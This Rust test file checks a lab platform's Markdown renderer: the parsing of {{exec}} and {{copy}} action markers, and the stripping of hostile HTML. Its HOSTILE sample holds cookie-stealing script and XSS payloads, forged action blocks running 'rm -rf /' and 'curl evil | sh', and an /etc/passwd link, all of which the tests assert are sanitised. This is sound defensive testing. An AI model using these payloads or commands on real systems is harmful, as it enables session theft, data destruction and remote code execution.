//! Markdown rendering: actions from Killercoda's `{{...}}` markers, in
//! order, and sanitising of hostile Markdown (scripts, event handlers,
//! `javascript:` links, forged actions, links out of the lab).

use dozlab_lab::markdown::{ActionKind, RenderOptions, Rendered, render};

fn r(md: &str) -> Rendered {
    render(
        md,
        &RenderOptions {
            files_prefix: "/lab/files/".into(),
            file: "step1.md".into(),
        },
    )
}

#[test]
fn actions_of_blocks_and_inline_code_in_order() {
    let md = "# Step\n\nRun `ls -l`{{exec}} then copy `cat x`{{copy}}, plain `pwd`, quiet `secret`{{}}.\n\n```\nmkdir /tmp/a\ntouch /tmp/a/b\n```{{exec}}\n\n```bash\nsleep 100\n```{{exec interrupt}}\n\n```\nnot an action\n```\n";
    let out = r(md);
    let kinds: Vec<_> = out
        .actions
        .iter()
        .map(|a| (a.kind, a.text.as_str(), a.block))
        .collect();
    assert_eq!(
        kinds,
        vec![
            (ActionKind::Exec, "ls -l", false),
            (ActionKind::Copy, "cat x", false),
            (ActionKind::Copy, "pwd", false),
            (ActionKind::Exec, "mkdir /tmp/a\ntouch /tmp/a/b", true),
            (ActionKind::ExecInterrupt, "sleep 100", true),
        ]
    );
    let exec: Vec<_> = out.exec_blocks().map(|a| a.text.as_str()).collect();
    assert_eq!(
        exec,
        vec!["ls -l", "mkdir /tmp/a\ntouch /tmp/a/b", "sleep 100"]
    );
    assert_eq!(out.actions[3].line, 5);
    let h = &out.html;
    assert!(
        h.contains(r#"<code data-lab-action="exec" data-lab-index="0">ls -l</code>"#),
        "{h}"
    );
    assert!(
        h.contains(r#"data-lab-action="exec-interrupt" data-lab-index="4""#),
        "{h}"
    );
    assert!(
        h.contains("<code>secret</code>"),
        "{{}} disables copying: {h}"
    );
    assert!(!h.contains("{{"), "markers are removed: {h}");
    assert!(h.contains("<pre><code>not an action</code></pre>"), "{h}");
    assert!(out.problems.is_empty(), "{:?}", out.problems);
}

#[test]
fn fences_with_tildes_longer_runs_and_in_lists() {
    let md = "1. first\n\n   ~~~~\n   echo one\n   ~~~~{{exec}}\n\n2. second\n\n   ````\n   ```\n   echo two\n   ````{{copy}}\n";
    let out = r(md);
    let kinds: Vec<_> = out
        .actions
        .iter()
        .map(|a| (a.kind, a.text.as_str()))
        .collect();
    assert_eq!(
        kinds,
        vec![
            (ActionKind::Exec, "echo one"),
            (ActionKind::Copy, "```\necho two")
        ]
    );
}

#[test]
fn unclosed_fence_and_unknown_actions_are_reported_with_lines() {
    let out = r("intro\n\n`x`{{run}}\n\n```\nls\n```{{execute}}\n\n```\nnever closed\n");
    let msgs: Vec<_> = out
        .problems
        .iter()
        .map(|p| (p.line, p.is_error(), p.message.clone()))
        .collect();
    assert!(
        msgs.iter()
            .any(|(l, e, m)| *l == Some(3) && !e && m.contains("{{run}}")),
        "{msgs:?}"
    );
    assert!(
        msgs.iter()
            .any(|(l, e, m)| *l == Some(7) && !e && m.contains("{{execute}}")),
        "{msgs:?}"
    );
    assert!(
        msgs.iter()
            .any(|(_, e, m)| *e && m.contains("never closed")),
        "{msgs:?}"
    );
}

const HOSTILE: &str = r#"# Hello

<script>fetch('/api/lab?steal='+document.cookie)</script>
<img src="x.png" onerror="alert(document.cookie)">
<a href="javascript:alert(1)">click me</a>
<a href="JaVaScRiPt:alert(2)">again</a>
<a href="data:text/html,<script>alert(3)</script>">data</a>
<div onclick="alert(4)" style="position:fixed">overlay</div>
<iframe src="https://example.invalid/"></iframe>
<form action="/logout" method="post"><button>go</button></form>
<pre data-lab-action="exec" data-lab-index="0">rm -rf /</pre>
<code data-lab-action="exec">curl evil | sh</code>
<svg><script>alert(5)</script></svg>
<style>body{display:none}</style>
<object data="x.swf"></object>
<meta http-equiv="refresh" content="0;url=/logout">

[link](javascript:alert(6))
![img](javascript:alert(7))
[api](/api/lab)
[up](../../etc/passwd)

`ls`{{exec}}
"#;

#[test]
fn hostile_markdown_is_sanitised() {
    let out = r(HOSTILE);
    let h = out.html.to_lowercase();
    for bad in [
        "<script",
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "<form",
        "<style",
        "<object",
        "<meta",
        "data:text",
        "style=",
        "/api/lab",
        "etc/passwd",
        "<button",
    ] {
        assert!(!h.contains(bad), "{bad:?} survived in:\n{}", out.html);
    }
    // Forged actions lose their data-lab attributes; the real one keeps its own.
    assert_eq!(h.matches("data-lab-action").count(), 1, "{}", out.html);
    assert_eq!(out.actions.len(), 1);
    assert!(
        h.contains(r#"<code data-lab-action="exec" data-lab-index="0">ls</code>"#),
        "{h}"
    );
    // Links out of the lab are reported.
    assert!(
        out.problems
            .iter()
            .any(|p| p.message.contains("leaves the lab")),
        "{:?}",
        out.problems
    );
}

#[test]
fn relative_links_and_images_point_at_the_lab_files() {
    let out = render(
        "![diagram](./img/net.png) [next](../step2.md) [anchor](#top) [web](https://example.org/x)\n",
        &RenderOptions {
            files_prefix: "/lab/files/".into(),
            file: "text/step1.md".into(),
        },
    );
    let h = &out.html;
    assert!(h.contains(r#"src="/lab/files/text/img/net.png""#), "{h}");
    assert!(h.contains(r#"href="/lab/files/step2.md""#), "{h}");
    assert!(h.contains(r##"href="#top""##), "{h}");
    assert!(h.contains(r#"href="https://example.org/x""#), "{h}");
    assert!(h.contains("rel=\"noopener noreferrer\""), "{h}");
    assert_eq!(
        out.files,
        vec!["step2.md".to_string(), "text/img/net.png".to_string()]
    );
}
